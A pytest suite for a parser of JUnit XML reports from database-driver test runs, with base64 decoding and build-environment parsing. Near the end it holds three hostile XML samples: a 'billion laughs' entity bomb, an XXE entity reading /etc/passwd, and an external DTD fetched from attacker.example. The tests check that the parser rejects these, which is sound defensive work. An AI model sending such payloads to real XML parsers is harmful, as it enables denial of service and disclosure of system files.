"""Driver-matrix parsing: JUnit reports of each driver family, base64 transport, hostile XML, Build-00.txt."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
import pytest

from domain.errors import InvalidInput
from domain.runs import driver_matrix
from domain.runs.driver_matrix import (
    EnvironmentEntry,
    TestCollection,
    decode_base64_xml,
    driver_from_name,
    failed_collection,
    parse_environment,
    parse_junit,
    scylla_version_from_environment,
)
from domain.runs.driver_matrix import test_report as versions_report

FIXTURES = Path(__file__).parents[1] / "fixtures" / "driver_matrix"
NOW = datetime(2024, 6, 1, 12, 0, tzinfo=UTC)


def _fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def _parse(driver_name: str, driver_type: str, fixture: str) -> TestCollection:
    return parse_junit(driver_name, driver_type, _fixture(fixture), NOW)


def _totals(item: object) -> tuple[int, int, int, int, int, int]:
    return (item.tests_total, item.failures, item.errors, item.skipped, item.disabled, item.passed)  # type: ignore[attr-defined]


def _statuses(collection: TestCollection) -> dict[str, str]:
    return {case.name: case.status for suite in collection.suites for case in suite.cases}


def _messages(collection: TestCollection) -> dict[str, str]:
    return {case.name: case.message for suite in collection.suites for case in suite.cases if case.message}


# --- per-driver reports ---------------------------------------------------------------------------------------


def test_java_surefire_report() -> None:
    collection = _parse("java-datastax-4.17.0", "java", "java-datastax-4.17.0.xml")
    assert collection.name == "java-datastax-4.17.0"
    assert collection.driver is None  # java artifact names carry no driver flavour
    assert [suite.name for suite in collection.suites] == [
        "com.datastax.oss.driver.core.metadata.SchemaAgreementIT", "com.datastax.oss.driver.core.cql.BatchStatementIT"]
    assert [_totals(suite) for suite in collection.suites] == [(5, 1, 0, 1, 0, 3), (6, 0, 0, 1, 0, 5)]
    assert _totals(collection) == (11, 1, 0, 2, 0, 8)
    assert collection.time == pytest.approx(318.442)
    assert collection.timestamp == NOW - timedelta(seconds=318.442)
    statuses = _statuses(collection)
    assert statuses["should_fail_on_timeout"] == "failure"
    assert statuses["should_report_virtual_keyspaces"] == "skipped"
    assert statuses["should_fail_counter_batch_with_non_counter_increment"] == "skipped"
    # system-out and surefire's flakyFailure (a rerun that passed) are not statuses
    assert statuses["should_agree_when_schema_changes_concurrently"] == "passed"
    assert statuses["should_check_agreement_through_session"] == "passed"
    assert _messages(collection) == {
        "should_fail_on_timeout": "expected:<[false]> but was:<[true]> (org.junit.ComparisonFailure)",
        "should_report_virtual_keyspaces": "Requires Cassandra 4.0+ virtual tables",
    }
    first = collection.suites[0].cases[0]
    assert (first.classname, first.time) == ("com.datastax.oss.driver.core.metadata.SchemaAgreementIT", 6.214)


def test_java_thousands_separator_in_time_is_read() -> None:
    collection = _parse("java-datastax-4.17.0", "java", "java-datastax-4.17.0.xml")
    times = {case.name: case.time for case in collection.suites[1].cases}
    assert times["should_execute_batch_of_bound_statements_with_unset_values"] == 1034.5


def test_python_pytest_report() -> None:
    collection = _parse("pytest.datastax.v4.3.29.1", "python", "pytest.datastax.v4.3.29.1.xml")
    assert collection.driver == "datastax"
    assert _totals(collection) == (10, 1, 1, 2, 0, 6)
    assert collection.time == pytest.approx(187.442)
    assert collection.timestamp == datetime(2024, 5, 14, 9, 21, 7, 412345, tzinfo=UTC)  # +02:00 converted
    statuses = _statuses(collection)
    assert statuses["test_refresh_schema_timeout"] == "failure"
    assert statuses["test_export_keyspace_schema_udts"] == "error"
    assert statuses["test_client_ip_in_trace"] == "skipped"
    assert statuses["test_row_factories[dict_factory]"] == "passed"
    messages = _messages(collection)
    assert messages["test_refresh_schema_timeout"].startswith("AssertionError: assert 3 == 2\n")
    assert messages["test_export_keyspace_schema_udts"].startswith('failed on setup with "cassandra.OperationTimedOut')
    assert messages["test_client_ip_in_trace"] == "Test requires protocol v5+ (pytest.skip)"
    assert messages["test_execute_concurrent_paged_result"] == "scylladb/python-driver#312 (pytest.xfail)"


def test_gocql_go_junit_report() -> None:
    collection = _parse("xunit.scylla.v4.1.13.7", "gocql", "xunit.scylla.v4.1.13.7.xml")
    assert collection.driver == "scylla"
    # no skipped attribute on the suite: counted from the cases, and passed follows
    assert _totals(collection) == (9, 1, 0, 1, 0, 7)
    assert collection.timestamp == datetime(2024, 5, 14, 10, 2, 11, tzinfo=UTC)
    statuses = _statuses(collection)
    assert statuses["TestBatch_WithTimestamp"] == "failure"
    assert statuses["TestUDF"] == "skipped"
    assert statuses["TestTokenAwareConnPool"] == "passed"
    assert _messages(collection) == {
        "TestBatch_WithTimestamp": "Failed",  # an empty type attribute adds no "()"
        "TestUDF": "cassandra_test.go:88: UDF not supported on this cluster",
    }


def test_cpp_gtest_report() -> None:
    collection = _parse("TEST-scylla-2.16.2", "cpp", "TEST-scylla-2.16.2.xml")
    assert collection.driver == "scylla"
    assert [_totals(suite) for suite in collection.suites] == [(4, 1, 0, 0, 1, 2), (3, 0, 0, 0, 1, 2)]
    assert _totals(collection) == (7, 1, 0, 0, 2, 4)
    assert collection.time == pytest.approx(95.31)
    assert collection.timestamp == datetime(2024, 5, 14, 11, 40, 3, 517000, tzinfo=UTC)  # the root's, naive = UTC
    statuses = _statuses(collection)
    assert statuses["DISABLED_Integration_Cassandra_ConditionalBatch"] == "disabled"
    assert statuses["Integration_Cassandra_Counter"] == "failure"
    message = _messages(collection)["Integration_Cassandra_Counter"]
    assert message.startswith("/home/jenkins/workspace/cpp-driver-matrix/tests/src/integration/tests/"
                              "test_batch.cpp:142\nExpected equality of these values:\n")
    assert message.endswith("CASS_ERROR_SERVER_INVALID_QUERY")


def test_rust_report_without_timestamps_uses_now() -> None:
    collection = _parse("rust_results_v0.13.0", "rust", "rust_results_v0.13.0.xml")
    assert collection.driver is None
    assert collection.timestamp == NOW
    assert _totals(collection) == (9, 1, 0, 1, 0, 7)
    assert _messages(collection)["test_token_calculation"] == "test failed (assertion)"
    assert collection.time == 0.0


def test_collection_round_trips_through_msgspec_with_wire_field_names() -> None:
    collection = _parse("TEST-scylla-2.16.2", "cpp", "TEST-scylla-2.16.2.xml")
    wire = msgspec.json.decode(msgspec.json.encode(collection))
    assert list(wire) == ["name", "driver", "tests_total", "failures", "errors", "disabled", "skipped", "passed",
                          "time", "timestamp", "failure_message", "suites"]
    assert list(wire["suites"][0]) == ["name", "tests_total", "failures", "disabled", "skipped", "passed", "errors",
                                       "time", "cases"]
    assert list(wire["suites"][0]["cases"][0]) == ["name", "status", "time", "classname", "message"]
    assert msgspec.json.decode(msgspec.json.encode(collection), type=TestCollection) == collection


# --- timestamps -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("driver_type", ["python", "gocql", "cpp"])
def test_missing_timestamp_falls_back_to_now(driver_type: str) -> None:
    xml = b'<testsuites><testsuite name="s" tests="1"><testcase name="t"/></testsuite></testsuites>'
    assert parse_junit("TEST-scylla-2.16.2", driver_type, xml, NOW).timestamp == NOW


@pytest.mark.parametrize("value", ["yesterday", "2024-13-45T99:00:00", "   "])
def test_unreadable_timestamp_falls_back_to_now(value: str) -> None:
    xml = f'<testsuites><testsuite name="s" timestamp="{value}"/></testsuites>'.encode()
    assert parse_junit("pytest.scylla.v4.3.26.3", "python", xml, NOW).timestamp == NOW


def test_first_suite_timestamp_wins_for_python() -> None:
    xml = (b'<testsuites><testsuite name="a" timestamp="2024-05-01T08:00:00"/>'
           b'<testsuite name="b" timestamp="2024-05-02T08:00:00"/></testsuites>')
    assert parse_junit("pytest.scylla.v4.3.26.3", "python", xml, NOW).timestamp == datetime(2024, 5, 1, 8, tzinfo=UTC)


def test_java_without_root_time_is_now() -> None:
    xml = b'<testsuite name="com.example.FooIT" tests="1"><testcase name="t"/></testsuite>'
    assert parse_junit("java", "java", xml, NOW).timestamp == NOW


# --- structure and counts -------------------------------------------------------------------------------------


def test_bare_testsuite_root_without_counts() -> None:
    xml = b"""<?xml version="1.0"?>
    <testsuite name="com.datastax.driver.core.SessionTest">
      <testcase name="a" time="1.5"/>
      <testcase name="b" time="2.5"><failure/></testcase>
      <testcase name="c"><error message="boom"/></testcase>
      <testcase name="d"><skip/></testcase>
    </testsuite>"""
    collection = parse_junit("java-4.17", "java", xml, NOW)
    [suite] = collection.suites
    assert suite.name == "com.datastax.driver.core.SessionTest"
    assert _totals(suite) == (4, 1, 1, 1, 0, 1)
    assert suite.time == 4.0  # summed from the cases when the suite has no time
    assert [case.status for case in suite.cases] == ["passed", "failure", "error", "skipped"]
    assert [case.message for case in suite.cases] == ["", "", "boom", ""]


def test_passed_attribute_is_taken_as_stated() -> None:
    xml = b'<testsuite name="s" tests="10" failures="2" passed="5"/>'
    assert parse_junit("n", "rust", xml, NOW).passed == 5


def test_passed_is_never_negative() -> None:
    xml = b'<testsuite name="s" tests="1" failures="2" errors="3"/>'
    assert parse_junit("n", "rust", xml, NOW).passed == 0


@pytest.mark.parametrize("value", ["many", "-3", "2.5", "1e12", "nan"])
def test_unreadable_count_attribute_is_counted_from_cases(value: str) -> None:
    xml = f'<testsuite name="s" tests="{value}"><testcase name="a"/><testcase name="b"/></testsuite>'.encode()
    assert parse_junit("n", "rust", xml, NOW).tests_total == 2


@pytest.mark.parametrize(("value", "expected"), [("1,5", 0.0), ("-2", 0.0), ("inf", 0.0), ("1e10", 0.0),
                                                 ("12,345,678.25", 12345678.25), (" 3.5 ", 3.5)])
def test_time_values(value: str, expected: float) -> None:
    xml = f'<testsuite name="s"><testcase name="a" time="{value}"/></testsuite>'.encode()
    assert parse_junit("n", "rust", xml, NOW).suites[0].cases[0].time == expected


def test_message_uses_text_when_attribute_is_missing() -> None:
    xml = (b'<testsuite name="s"><testcase name="a">'
           b'<failure type="Panic">\n\n  first line\nsecond</failure></testcase></testsuite>')
    assert parse_junit("n", "rust", xml, NOW).suites[0].cases[0].message == "first line (Panic)"


def test_type_alone_is_the_message() -> None:
    xml = b'<testsuite name="s"><testcase name="a"><error type="java.io.IOException"/></testcase></testsuite>'
    assert parse_junit("n", "java", xml, NOW).suites[0].cases[0].message == "java.io.IOException"


def test_first_status_child_decides() -> None:
    xml = (b'<testsuite name="s"><testcase name="a"><system-out>x</system-out><error message="e"/>'
           b'<failure message="f"/></testcase></testsuite>')
    case = parse_junit("n", "rust", xml, NOW).suites[0].cases[0]
    assert (case.status, case.message) == ("error", "e")


def test_nested_suites_are_not_counted_twice() -> None:
    xml = b"""<testsuites>
      <testsuite name="outer" tests="3" failures="1">
        <testcase name="direct"/>
        <testsuite name="inner" tests="2" failures="1">
          <testcase name="a"/><testcase name="b"><failure/></testcase>
        </testsuite>
      </testsuite>
      <testsuite name="grouping-only" tests="99">
        <testsuite name="leaf" tests="1"><testcase name="c"/></testsuite>
      </testsuite>
    </testsuites>"""
    collection = parse_junit("n", "rust", xml, NOW)
    assert [suite.name for suite in collection.suites] == ["outer", "inner", "leaf"]
    assert [suite.tests_total for suite in collection.suites] == [1, 2, 1]
    assert _totals(collection) == (4, 1, 0, 0, 0, 3)


def test_empty_testsuites_root_gives_an_empty_collection() -> None:
    collection = parse_junit("pytest.scylla.v4.3.26.3", "python", b"<testsuites/>", NOW)
    assert (collection.suites, collection.tests_total, collection.timestamp) == ([], 0, NOW)


def test_long_names_and_messages_are_clipped() -> None:
    long_name = "x" * 5000
    xml = (f'<testsuite name="{long_name}"><testcase name="{long_name}" classname="{long_name}">'
           f'<failure message="{"m" * 20000}"/></testcase></testsuite>').encode()
    suite = parse_junit("n", "rust", xml, NOW).suites[0]
    case = suite.cases[0]
    assert len(suite.name) == len(case.name) == len(case.classname) == driver_matrix.MAX_NAME_LENGTH
    assert case.name.endswith("…")
    assert len(case.message) == driver_matrix.MAX_MESSAGE_LENGTH


def test_too_many_cases_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(driver_matrix, "MAX_CASES", 3)
    xml = b'<testsuites><testsuite name="a"><testcase name="1"/><testcase name="2"/></testsuite>' \
          b'<testsuite name="b"><testcase name="3"/><testcase name="4"/></testsuite></testsuites>'
    with pytest.raises(InvalidInput, match="more than 3 test cases"):
        parse_junit("n", "rust", xml, NOW)


def test_too_many_suites_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(driver_matrix, "MAX_SUITES", 2)
    xml = b"<testsuites>" + b'<testsuite name="s"/>' * 3 + b"</testsuites>"
    with pytest.raises(InvalidInput, match="more than 2 test suites"):
        parse_junit("n", "rust", xml, NOW)


def test_oversized_document_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(driver_matrix, "MAX_XML_BYTES", 100)
    with pytest.raises(InvalidInput, match="larger than 100 bytes"):
        parse_junit("n", "rust", b"<testsuites>" + b" " * 100 + b"</testsuites>", NOW)


@pytest.mark.parametrize("name", ["", "   ", "n" * 1025])
def test_bad_driver_names_are_refused(name: str) -> None:
    with pytest.raises(InvalidInput, match="driver_name"):
        parse_junit(name, "python", b"<testsuites/>", NOW)


# --- hostile and broken input ---------------------------------------------------------------------------------


@pytest.mark.parametrize("xml", [b"", b"  \n\t "])
def test_empty_document_is_refused(xml: bytes) -> None:
    with pytest.raises(InvalidInput, match="empty"):
        parse_junit("n", "python", xml, NOW)


def test_malformed_xml_names_the_position() -> None:
    xml = b'<testsuites>\n  <testsuite name="s">\n    <testcase name="a">\n  </testsuite>\n</testsuites>'
    with pytest.raises(InvalidInput) as caught:
        parse_junit("pytest.scylla.v4.3.26.3", "python", xml, NOW)
    assert caught.value.message == "JUnit XML is malformed at line 4, column 5: mismatched tag"


def test_truncated_xml_is_refused() -> None:
    truncated = _fixture("xunit.scylla.v4.1.13.7.xml")[:700]
    with pytest.raises(InvalidInput, match="malformed"):
        parse_junit("xunit.scylla.v4.1.13.7", "gocql", truncated, NOW)


def test_wrong_root_is_refused() -> None:
    with pytest.raises(InvalidInput, match="root must be"):
        parse_junit("n", "python", b"<html><body>502 Bad Gateway</body></html>", NOW)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<testsuite name="&lol4;"/>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<testsuite name="s"><testcase name="&secret;"/></testsuite>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.example/junit.dtd">
<testsuite name="s"/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "entity", "dtd"])
def test_dtds_and_entities_are_refused(xml: bytes) -> None:
    with pytest.raises(InvalidInput, match="must not contain a DTD"):
        parse_junit("n", "python", xml, NOW)


# --- base64 transport -----------------------------------------------------------------------------------------


def test_base64_with_newlines_as_the_client_sends_it() -> None:
    xml = _fixture("pytest.datastax.v4.3.29.1.xml")
    raw_xml = str(base64.encodebytes(xml), encoding="utf-8")
    assert "\n" in raw_xml.rstrip("\n")  # really wrapped every 76 characters
    assert decode_base64_xml(raw_xml) == xml
    assert decode_base64_xml(raw_xml.replace("\n", "\r\n")) == xml


@pytest.mark.parametrize("raw", ["<testsuites/>", "abc", "ab=c", "Zm9v\u00e9", "Zm9v-_8="])
def test_invalid_base64_is_refused(raw: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        decode_base64_xml(raw)
    assert caught.value.message == "raw_xml is not valid base64"


def test_oversized_base64_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(driver_matrix, "MAX_XML_BYTES", 30)
    assert decode_base64_xml(str(base64.encodebytes(b"x" * 30), "ascii")) == b"x" * 30
    with pytest.raises(InvalidInput, match="larger than 30 bytes"):
        decode_base64_xml(str(base64.encodebytes(b"x" * 33), "ascii"))


# --- driver names, failures and the versions report -----------------------------------------------------------


@pytest.mark.parametrize(("name", "driver_type", "expected"), [
    ("pytest.datastax.v3.3.24.0", "python", "datastax"),
    ("pytest.scylla.v4.3.26.3.xml", "python", "scylla"),
    ("xunit.scylla.v4.1.13.7", "gocql", "scylla"),
    ("TEST-datastax-2.16.2.xml", "cpp", "datastax"),
    ("TEST-scylla-2.15.2-1", "CPP", "scylla"),
    ("TEST-scylla-2.16.2", "python", None),
    ("pytest.scylla.v4.3.26.3", "cpp", None),
    ("TEST-4.17.0.0", "java", None),
    ("rust_results_v0.13.0", "rust", None),
])
def test_driver_from_name(name: str, driver_type: str, expected: str | None) -> None:
    assert driver_from_name(name, driver_type) == expected


def test_failed_collection() -> None:
    collection = failed_collection("pytest.scylla.v4.3.26.3", "python", "pip install failed: no matching dist", NOW)
    assert collection == TestCollection(name="pytest.scylla.v4.3.26.3", driver="scylla", tests_total=1, failures=1,
                                        timestamp=NOW, failure_message="pip install failed: no matching dist")


def test_versions_report_groups_by_driver() -> None:
    collections = [
        _parse("pytest.scylla.v4.3.26.3", "python", "pytest.datastax.v4.3.29.1.xml"),
        failed_collection("pytest.datastax.v3.3.24.0", "python", "build failed", NOW),
        _parse("pytest.datastax.v4.3.29.1", "python", "pytest.datastax.v4.3.29.1.xml"),
        _parse("pytest.scylla.v4.3.26.3", "python", "pytest.datastax.v4.3.29.1.xml"),  # same name from another run
        _parse("rust_results_v0.13.0", "rust", "rust_results_v0.13.0.xml"),
    ]
    assert versions_report(collections) == {
        "scylla": ["pytest.scylla.v4.3.26.3"],
        "datastax": ["pytest.datastax.v3.3.24.0", "pytest.datastax.v4.3.29.1"],
        "Unknown": ["rust_results_v0.13.0"],
    }
    assert versions_report([]) == {}


# --- Build-00.txt ---------------------------------------------------------------------------------------------


def test_build_environment_file() -> None:
    entries = parse_environment((FIXTURES / "Build-00.txt").read_text())
    assert [entry.key for entry in entries] == ["scylla-version", "scylla-package", "build-id", "build-date", "os",
                                                "java-version", "python-version"]
    values = {entry.key: entry.value for entry in entries}
    assert values["scylla-package"].startswith("https://downloads.scylladb.com/unstable/")
    assert values["build-date"] == "2024-05-12 01:23:45"
    assert scylla_version_from_environment(entries) == "2024.2.0~rc1-0.20240512.6b0b8bb3f7e2"


def test_environment_value_may_contain_the_separator() -> None:
    raw = "scylla-version: 6.0.1\r\nscylla-args: --smp 2 --overprovisioned: true\nrelease:\n"
    assert parse_environment(raw) == [
        EnvironmentEntry(key="scylla-version", value="6.0.1"),
        EnvironmentEntry(key="scylla-args", value="--smp 2 --overprovisioned: true"),
        EnvironmentEntry(key="release", value=""),
    ]


def test_environment_keeps_the_first_value_of_a_key() -> None:
    entries = parse_environment("scylla-version: 6.0.1\nscylla-version: 6.0.2\n")
    assert entries == [EnvironmentEntry(key="scylla-version", value="6.0.1")]


@pytest.mark.parametrize(("raw", "line"), [("scylla-version: 6.0.1\n\nno separator here\n", 3),
                                           ("scylla-version:6.0.1", 1), (": orphan value", 1)])
def test_malformed_environment_line_is_refused(raw: str, line: int) -> None:
    with pytest.raises(InvalidInput) as caught:
        parse_environment(raw)
    assert caught.value.message == f"Environment line {line} is not 'key: value'"


def test_environment_without_scylla_version() -> None:
    assert scylla_version_from_environment(parse_environment("os: Ubuntu 22.04\n")) is None
    assert scylla_version_from_environment(parse_environment("scylla-version: \n")) is None
    assert parse_environment("\n  \n") == []
